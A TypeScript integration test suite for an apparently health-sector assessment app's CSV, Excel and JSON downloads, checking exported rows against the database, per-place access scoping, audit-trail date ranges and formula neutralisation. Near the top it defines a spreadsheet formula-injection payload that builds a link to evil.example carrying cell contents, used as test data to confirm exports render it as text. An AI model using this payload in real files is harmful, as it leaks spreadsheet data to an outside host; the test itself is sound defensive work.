import { parse } from 'csv-parse/sync'
import type { Response } from 'supertest'
import { timestamp } from '../../server/db/values'
import { readWorkbook } from '../../server/exports/excel'
import { formatLondonDateTime, neutralise } from '../../server/exports/table'
import { createTestContext, testDemoPassword, type TestContext } from '../helpers/app'
import { errorSummaryOf, signIn, type Agent } from '../helpers/session'

/**
 * The round's downloads, parsed back (csv-parse, exceljs) and compared with the database, read
 * here with queries of the test's own; a formula typed as evidence must come back as text.
 */

const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
const plusFormula = '+SUM(1,2)'

let context: TestContext
let lead: Agent
let placeLead: Agent
let roundId: number
let icsId: number

/** Collects a binary response body into a Buffer. */
function binary(response: Response, callback: (error: Error | null, body: Buffer) => void) {
  const chunks: Buffer[] = []
  response.on('data', (chunk: Buffer) => chunks.push(chunk))
  response.on('end', () => callback(null, Buffer.concat(chunks)))
}

async function download(agent: Agent, path: string): Promise<{ response: Response; body: Buffer }> {
  const response = await agent
    .get(path)
    .buffer(true)
    .parse(binary as never)
  return { response, body: response.body as Buffer }
}

function csvRecords(body: Buffer): Array<Record<string, string>> {
  expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  return parse(body, { bom: true, columns: true }) as Array<Record<string, string>>
}

interface DbAnswerRow {
  place: string
  organisation: string
  organisation_id: number
  code: string
  position: number
  level: number | null
  not_sure: unknown
  evidence: string | null
  support_needed: string | null
  target_level: number | null
  updated_at: unknown
  updated_by: string | null
  status: string | null
}

/** Every organisation x criterion of the round, as the database holds it (the test's own query). */
async function databaseAnswers(placeName?: string): Promise<DbAnswerRow[]> {
  const round = (await context.db('rounds').where({ id: roundId }).first('framework_version_id')) as { framework_version_id: number }
  const query = context
    .db('round_places as rp')
    .join('places as p', 'p.id', 'rp.place_id')
    .join('organisations as o', 'o.place_id', 'p.id')
    .crossJoin(context.db.raw('framework_criteria as c'))
    .leftJoin('responses as r', (j) => j.on('r.organisation_id', 'o.id').andOn('r.round_id', 'rp.round_id'))
    .leftJoin('answers as a', (j) => j.on('a.response_id', 'r.id').andOn('a.criterion_id', 'c.id'))
    .leftJoin('users as u', 'u.id', 'a.updated_by')
    .where('rp.round_id', roundId)
    .where('c.version_id', round.framework_version_id)
  if (placeName) query.where('p.name', placeName)
  return (await query
    .orderBy([{ column: 'p.name' }, { column: 'o.name' }, { column: 'o.id' }, { column: 'c.position' }])
    .select(
      'p.name as place',
      'o.name as organisation',
      'o.id as organisation_id',
      'c.code',
      'c.position',
      'a.level',
      'a.not_sure',
      'a.evidence',
      'a.support_needed',
      'a.target_level',
      'a.updated_at',
      'u.name as updated_by',
      'r.status',
    )) as DbAnswerRow[]
}

const asDate = (value: unknown) => (value instanceof Date ? value : new Date(String(value)))
const truthy = (value: unknown) => value === true || value === 1 || value === '1'

beforeAll(async () => {
  context = await createTestContext({ demo: true, env: { SIGN_IN_RATE_LIMIT: '1000' } })
  roundId = ((await context.db('rounds').orderBy('id', 'desc').first('id')) as { id: number }).id
  icsId = ((await context.db('ics').first('id')) as { id: number }).id
  // A partner typed formulas as evidence and support.
  const wirralCouncil = (await context.db('organisations').where({ name: 'Wirral Council' }).first('id')) as { id: number }
  const response = (await context.db('responses').where({ round_id: roundId, organisation_id: wirralCouncil.id }).first('id')) as {
    id: number
  }
  const firstAnswer = (await context.db('answers').where({ response_id: response.id }).orderBy('criterion_id').first('id')) as {
    id: number
  }
  await context.db('answers').where({ id: firstAnswer.id }).update({ evidence: formula, support_needed: plusFormula })
  // More organisations than one page of the export's reading (200), to cross page boundaries,
  // with names that sort between the demo's and one name repeated in two places.
  const halton = (await context.db('places').where({ name: 'Halton' }).first('id')) as { id: number }
  const knowsley = (await context.db('places').where({ name: 'Knowsley' }).first('id')) as { id: number }
  const extra = Array.from({ length: 230 }, (_, i) => ({
    place_id: halton.id,
    name: `Halton GP practice ${String(i).padStart(3, '0')}`,
    kind: 'pcn',
    created_at: timestamp(),
  }))
  extra.push({ place_id: knowsley.id, name: 'Halton GP practice 007', kind: 'pcn', created_at: timestamp() })
  await context.db.batchInsert('organisations', extra, 100)
  lead = await signIn(context.app, 'ics.lead@example.org', testDemoPassword)
  placeLead = await signIn(context.app, 'place.lead.wirral@example.org', testDemoPassword)
})
afterAll(() => context.close())

describe('every answer', () => {
  it('as CSV: one row per organisation and criterion, equal to the database, formulas as text', async () => {
    const { response, body } = await download(lead, `/rounds/${roundId}/downloads/answers.csv`)
    expect(response.status).toBe(200)
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename=".* - answers\.csv"/)
    expect(response.headers['cache-control']).toBe('no-store')
    const records = csvRecords(body)
    const expected = await databaseAnswers()
    expect(records).toHaveLength(expected.length)
    expect(expected.length).toBeGreaterThan(230 * 16)
    records.forEach((record, i) => {
      const row = expected[i]!
      expect([record.Place, record.Organisation, record['Criterion code']]).toEqual([row.place, row.organisation, row.code])
      expect(record.Level).toBe(row.level === null ? '' : String(row.level))
      expect(record['Not sure yet']).toBe(row.updated_at === null ? '' : truthy(row.not_sure) ? 'Yes' : 'No')
      expect(record.Evidence).toBe(row.evidence === null ? '' : neutralise(row.evidence))
      expect(record['Support needed']).toBe(row.support_needed === null ? '' : neutralise(row.support_needed))
      expect(record['Target level']).toBe(row.target_level === null ? '' : String(row.target_level))
      expect(record['Last changed (UK time)']).toBe(row.updated_at === null ? '' : formatLondonDateTime(asDate(row.updated_at)))
      expect(record['Changed by']).toBe(row.updated_by ?? '')
      expect(record['Response status']).toBe(row.status === null ? 'Not started' : row.status === 'submitted' ? 'Submitted' : 'In progress')
    })
    const council = records.find((r) => r.Organisation === 'Wirral Council' && r.Evidence?.includes('HYPERLINK'))!
    expect(council.Evidence).toBe(`'${formula}`)
    expect(council['Support needed']).toBe(`'${plusFormula}`)
  })

  it('as Excel: the same rows, numbers as numbers, times as dates, formulas as text', async () => {
    const { response, body } = await download(lead, `/rounds/${roundId}/downloads/answers.xlsx`)
    expect(response.status).toBe(200)
    expect(response.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
    const sheet = (await readWorkbook(body)).get('Answers')!
    const [header, ...rows] = sheet
    const column = (name: string) => (header as string[]).indexOf(name)
    const expected = await databaseAnswers()
    expect(rows).toHaveLength(expected.length)
    rows.forEach((row, i) => {
      const db = expected[i]!
      expect([row[column('Place')], row[column('Organisation')], row[column('Criterion code')]]).toEqual([
        db.place,
        db.organisation,
        db.code,
      ])
      expect(row[column('Level')]).toBe(db.level)
      expect(row[column('Evidence')]).toBe(db.evidence === null || db.evidence === '' ? null : neutralise(db.evidence))
      const changed = row[column('Last changed (UK time)')]
      if (db.updated_at === null) expect(changed).toBeNull()
      else expect((changed as Date).toISOString().slice(0, 19).replace('T', ' ')).toBe(formatLondonDateTime(asDate(db.updated_at)))
    })
    expect(rows.some((row) => row[column('Evidence')] === `'${formula}`)).toBe(true)
  })

  it('for a place lead: their place only', async () => {
    const { response, body } = await download(placeLead, `/rounds/${roundId}/downloads/answers.csv`)
    expect(response.status).toBe(200)
    expect(response.headers['content-disposition']).toContain('Wirral')
    const records = csvRecords(body)
    expect(new Set(records.map((r) => r.Place))).toEqual(new Set(['Wirral']))
    expect(records.map((r) => [r.Organisation, r['Criterion code']])).toEqual(
      (await databaseAnswers('Wirral')).map((r) => [r.organisation, r.code]),
    )
  })
})

describe('a place lead’s scope', () => {
  it('every download holds their place and nothing of any other place', async () => {
    const wirral = (await context.db('places').where({ name: 'Wirral' }).first('id')) as { id: number }
    const others = (await context
      .db('places as p')
      .join('round_places as rp', 'rp.place_id', 'p.id')
      .where('rp.round_id', roundId)
      .whereNot('p.id', wirral.id)
      .pluck('p.name')) as string[]
    const otherOrganisations = (await context
      .db('organisations as o')
      .join('round_places as rp', 'rp.place_id', 'o.place_id')
      .where('rp.round_id', roundId)
      .whereNot('o.place_id', wirral.id)
      .pluck('o.name')) as string[]
    expect(others).toHaveLength(8)
    for (const file of ['answers.csv', 'answers.xlsx', 'results.csv', 'results.xlsx', 'plan.csv', 'plan.xlsx', 'round.json']) {
      const { response, body } = await download(placeLead, `/rounds/${roundId}/downloads/${file}`)
      expect({ file, status: response.status }).toEqual({ file, status: 200 })
      const text = file.endsWith('.xlsx') ? [...(await readWorkbook(body)).values()].flat(2).map(String).join('\n') : body.toString('utf8')
      expect({ file, hasWirral: text.includes('Wirral') }).toEqual({ file, hasWirral: true })
      for (const name of [...others, ...otherOrganisations])
        expect({ file, leaked: text.includes(name) && name }).toEqual({ file, leaked: false })
    }
    const document = JSON.parse((await download(placeLead, `/rounds/${roundId}/downloads/round.json`)).body.toString('utf8')) as {
      round: { places: Array<{ id: number }> }
      places: Array<{ place: { id: number } }>
      respondents: Array<{ place: { id: number } }>
    }
    expect(
      new Set(
        [...document.round.places, ...document.places.map((p) => p.place), ...document.respondents.map((r) => r.place)].map((p) => p.id),
      ),
    ).toEqual(new Set([wirral.id]))
  })
})

describe('results and the development plan', () => {
  it('come from the results read model: every place x criterion, with the recommendation and decision', async () => {
    const baselineId = ((await context.db('rounds').orderBy('id').first('id')) as { id: number }).id
    const model = (await context.services.results.round(baselineId))!
    const csv = csvRecords((await download(lead, `/rounds/${baselineId}/downloads/results.csv`)).body)
    const expected = model.places.flatMap((p) => p.criteria.map((c) => ({ p, c })))
    expect(csv).toHaveLength(expected.length)
    csv.forEach((record, i) => {
      const { p, c } = expected[i]!
      expect(record.Place).toBe(p.place.name)
      expect(record['Criterion code']).toBe(c.criterion.code)
      expect(record['Level used']).toBe(c.used.level === null ? '' : String(c.used.level))
      expect(record['Threshold met']).toBe(c.result.met ? 'Yes' : 'No')
      expect(record['Place recommended level']).toBe(String(p.readiness.level))
      expect(record['Place decided level']).toBe(p.decision ? String(p.decision.decidedLevel) : '')
      expect(record['Decision rationale']).toBe(p.decision ? neutralise(p.decision.rationale) : '')
    })
    const sheets = await readWorkbook((await download(lead, `/rounds/${baselineId}/downloads/results.xlsx`)).body)
    expect([...sheets.keys()]).toEqual(['Readiness by place', 'Criteria'])
    const [header, ...places] = sheets.get('Readiness by place')!
    expect(places.map((row) => row[0])).toEqual(model.places.map((p) => p.place.name))
    expect(places.map((row) => row[(header as string[]).indexOf('Recommended level')])).toEqual(model.places.map((p) => p.readiness.level))
    expect(places.map((row) => row[(header as string[]).indexOf('Explanation')])).toEqual(
      model.places.map((p) => p.readiness.explanation.join('\n')),
    )
    expect(sheets.get('Criteria')).toHaveLength(expected.length + 1)

    const plan = csvRecords((await download(lead, `/rounds/${baselineId}/downloads/plan.csv`)).body)
    const actions = model.places.flatMap((p) => p.plan.map((a) => [p.place.name, a.criterionCode, neutralise(a.description), a.dueDate]))
    expect(actions.length).toBeGreaterThan(0)
    expect(plan.map((r) => [r.Place, r['Criterion code'], r.Action, r.Due])).toEqual(actions)
  })
})

describe('the audit trail for a date range', () => {
  it('holds the ICS’s events in the range, oldest first; a bad range shows the errors', async () => {
    const from = new Date('2021-01-01T00:00:00Z')
    const { body } = await download(
      lead,
      `/rounds/${roundId}/downloads/audit.csv?from-day=1&from-month=1&from-year=2021&to-day=31&to-month=12&to-year=2030`,
    )
    const records = csvRecords(body)
    const events = (await context
      .db('audit_events')
      .where('ics_id', icsId)
      .orWhere((q) => {
        q.whereNull('ics_id').whereIn('actor_user_id', context.db('memberships').where('ics_id', icsId).select('user_id'))
      })
      .orderBy([{ column: 'occurred_at' }, { column: 'id' }])
      .select('kind', 'occurred_at')) as Array<{ kind: string; occurred_at: unknown }>
    // The download itself is recorded before its rows are read.
    expect(records.map((r) => r['Event code'])).toEqual(events.filter((e) => asDate(e.occurred_at) >= from).map((e) => e.kind))
    expect(records.at(-1)!['Event code']).toBe('export.downloaded')

    const bad = await lead.get(
      `/rounds/${roundId}/downloads/audit.xlsx?from-day=31&from-month=2&from-year=2026&to-day=1&to-month=1&to-year=2026`,
    )
    expect(bad.status).toBe(400)
    expect(errorSummaryOf(bad.text)).toEqual(['Enter the start date as a real date, for example 1 10 2021'])
    const backwards = await lead.get(
      `/rounds/${roundId}/downloads/audit.csv?from-day=2&from-month=1&from-year=2026&to-day=1&to-month=1&to-year=2026`,
    )
    expect(backwards.status).toBe(400)
    expect(errorSummaryOf(backwards.text)).toEqual(['The end date must be the same as or after the start date'])
    expect(backwards.text).toContain('value="2"')
  })

  it('takes the range as whole London days, in summer and in winter, and shows times in London time', async () => {
    const otherIcs = (await context
      .db('ics')
      .insert({ name: 'Elsewhere ICS', slug: 'elsewhere', created_at: timestamp() }, ['id'])) as Array<{
      id: number
    }>
    const at = (iso: string, kind: string, ics = icsId) => ({
      occurred_at: timestamp(new Date(iso)),
      kind,
      ics_id: ics,
      subject_type: 'test',
      subject_id: '=1+2',
      details: '{}',
    })
    await context.db('audit_events').insert([
      // Summer (BST, UTC+1): 1 July 2024 runs from 30 June 23:00 UTC to 1 July 23:00 UTC.
      at('2024-06-30T22:59:59Z', 'test.summer-before'),
      at('2024-06-30T23:00:00Z', 'test.summer-first'),
      at('2024-07-01T22:59:59Z', 'test.summer-last'),
      at('2024-07-01T23:00:00Z', 'test.summer-after'),
      at('2024-07-01T12:00:00Z', 'test.summer-elsewhere', otherIcs[0]!.id),
      // Winter (GMT): 15 and 16 January 2025 are the same days in UTC.
      at('2025-01-14T23:59:59Z', 'test.winter-before'),
      at('2025-01-15T00:00:00Z', 'test.winter-first'),
      at('2025-01-16T23:59:59Z', 'test.winter-last'),
      at('2025-01-17T00:00:00Z', 'test.winter-after'),
    ])
    const summer = csvRecords(
      (
        await download(
          lead,
          `/rounds/${roundId}/downloads/audit.csv?from-day=1&from-month=7&from-year=2024&to-day=1&to-month=7&to-year=2024`,
        )
      ).body,
    )
    expect(summer.map((r) => [r['Event code'], r['When (UK time)'], r['Subject id']])).toEqual([
      ['test.summer-first', '2024-07-01 00:00:00', "'=1+2"],
      ['test.summer-last', '2024-07-01 23:59:59', "'=1+2"],
    ])
    const winter = await readWorkbook(
      (
        await download(
          lead,
          `/rounds/${roundId}/downloads/audit.xlsx?from-day=15&from-month=1&from-year=2025&to-day=16&to-month=1&to-year=2025`,
        )
      ).body,
    )
    const [header, ...rows] = winter.get('Audit trail')!
    const column = (name: string) => (header as string[]).indexOf(name)
    expect(
      rows.map((row) => [row[column('Event code')], (row[column('When (UK time)')] as Date).toISOString(), row[column('Subject id')]]),
    ).toEqual([
      ['test.winter-first', '2025-01-15T00:00:00.000Z', "'=1+2"],
      ['test.winter-last', '2025-01-16T23:59:59.000Z', "'=1+2"],
    ])
  })

  it('is not offered to a place lead', async () => {
    expect((await placeLead.get(`/rounds/${roundId}/downloads`)).text).not.toContain('audit.csv')
    expect((await placeLead.get(`/rounds/${roundId}/downloads/audit.csv`)).status).toBe(403)
  })
})

describe('the whole round as JSON', () => {
  it('holds the round, framework, every place and every organisation’s saved answers', async () => {
    const { response, body } = await download(lead, `/rounds/${roundId}/downloads/round.json`)
    expect(response.status).toBe(200)
    const document = JSON.parse(body.toString('utf8')) as {
      round: { id: number }
      framework: { version: { domains: unknown[] } }
      places: Array<{ place: { name: string } }>
      respondents: Array<{ organisation: { id: number }; answers: Array<{ evidence: string | null }> }>
    }
    expect(document.round.id).toBe(roundId)
    expect(document.framework.version.domains).toHaveLength(4)
    expect(document.places).toHaveLength(9)
    const organisations = new Set((await databaseAnswers()).map((r) => r.organisation_id))
    expect(document.respondents.map((r) => r.organisation.id).sort((a, b) => a - b)).toEqual([...organisations].sort((a, b) => a - b))
    const saved = (await context
      .db('answers as a')
      .join('responses as r', 'r.id', 'a.response_id')
      .where('r.round_id', roundId)
      .count({ n: '*' })
      .first()) as { n: unknown }
    expect(document.respondents.reduce((n, r) => n + r.answers.length, 0)).toBe(Number(saved.n))
    // JSON is not a spreadsheet: text stays exactly as typed.
    expect(document.respondents.some((r) => r.answers.some((a) => a.evidence === formula))).toBe(true)
  })
})

describe('the downloads page', () => {
  it('lists every download for the ICS lead, is linked from the round page, and each download is audited', async () => {
    const page = await lead.get(`/rounds/${roundId}/downloads`)
    expect(page.status).toBe(200)
    for (const file of [
      'answers.csv',
      'answers.xlsx',
      'results.csv',
      'results.xlsx',
      'plan.csv',
      'plan.xlsx',
      'round.json',
      'audit.csv',
      'audit.xlsx',
    ])
      expect(page.text).toContain(`/rounds/${roundId}/downloads/${file}`)
    expect((await lead.get(`/rounds/${roundId}/manage`)).text).toContain(`/rounds/${roundId}/downloads`)
    const recorded = (await context.db('audit_events').where({ kind: 'export.downloaded' }).pluck('details')) as string[]
    expect(recorded.map((d) => (JSON.parse(d) as { export: string; format: string }).export)).toEqual(
      expect.arrayContaining(['answers', 'results', 'plan', 'audit', 'round']),
    )
  })
})
